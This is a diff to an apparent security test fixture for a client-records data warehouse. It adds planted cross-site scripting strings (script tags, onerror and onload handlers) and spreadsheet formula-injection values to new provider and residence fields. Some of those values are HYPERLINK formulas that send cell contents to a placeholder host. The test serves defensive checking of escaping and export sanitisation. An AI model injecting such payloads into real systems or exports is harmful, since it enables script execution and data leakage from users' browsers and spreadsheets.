@@ -40,6 +40,9 @@ SCRIPT_FIELDS = {
     "csec_status": "<b onmouseover=alert('csec')>csec</b>",
     "risk_factors": ["<script>alert('risk')</script>", "runaway"],
     "services": ["<img src=x onerror=alert('service')>"],
+    "provider": "<script>alert('provider')</script>",
+    "residence_city": "<svg onload=alert('residence')>",
+    "residence_state": "<script>alert('state')</script>",
     "officer": "<script>alert('officer')</script>",
     "court": "\"><img src=x onerror=alert('court')>",
     "supervision_status": "<script>alert('status')</script>",
@@ -66,6 +69,9 @@ FORMULA_FIELDS = {
     "csec_status": "\t=1+6",
     "risk_factors": ["=1+7", "runaway"],
     "services": ["\r=1+8"],
+    "provider": "=1+18",
+    "residence_city": '=HYPERLINK("https://example.invalid/?r="&A2,"Open")',
+    "residence_state": "+1+19",
     "officer": '=HYPERLINK("https://example.invalid/?d="&A2,"Open case file")',
     "court": "+1+9",
     "supervision_status": "=1+10",
@@ -121,9 +127,35 @@ def _client(cid: str, f: dict) -> dict:
         "referral_date": "2025-05-01",
         "csec_status": f["csec_status"],
         "risk_factors": "|".join(f["risk_factors"]),
-        "services": "|".join(f["services"]),
         "next_meeting": MEETING.isoformat(),
     }
+
+
+def _services(cid: str, f: dict) -> list[dict]:
+    return [
+        {"record_id": cid, "service": s, "provider": f["provider"], "start_date": "2025-05-10"}
+        for s in f["services"]
+    ]
+
+
+def _residences(cid: str, f: dict) -> list[dict]:
+    return [
+        {
+            "record_id": cid,
+            "city": f["residence_city"],
+            "county": f["county"],
+            "state": f["residence_state"],
+            "start_date": "2024-01-01",
+            "end_date": "2025-04-01",
+        },
+        {
+            "record_id": cid,
+            "city": f["city"],
+            "county": f["county"],
+            "state": "CA",
+            "start_date": "2025-04-01",
+        },
+    ]
 
 
 def _person(rid: str, cid: str) -> dict:
@@ -136,7 +168,11 @@ def build_payload_warehouse(url: str) -> Warehouse:
     wh.migrate()
     planted = {"X1": SCRIPT_FIELDS, "F1": FORMULA_FIELDS}
     rows = [dict(c) for c in CLIENTS] + [_client(cid, f) for cid, f in planted.items()]
-    ex = extract("safetynet_clients", "safetynet_clients", {"clients": rows})
+    side = {
+        "client_services": [r for cid, f in planted.items() for r in _services(cid, f)],
+        "client_residences": [r for cid, f in planted.items() for r in _residences(cid, f)],
+    }
+    ex = extract("safetynet_clients", "safetynet_clients", {"clients": rows, **side})
     wh.load_clients(record(wh, ex), ex)
 
     def load(source: str, kind: str, tables: dict[str, list[dict]], pairs: list[tuple[str, str]]) -> None:
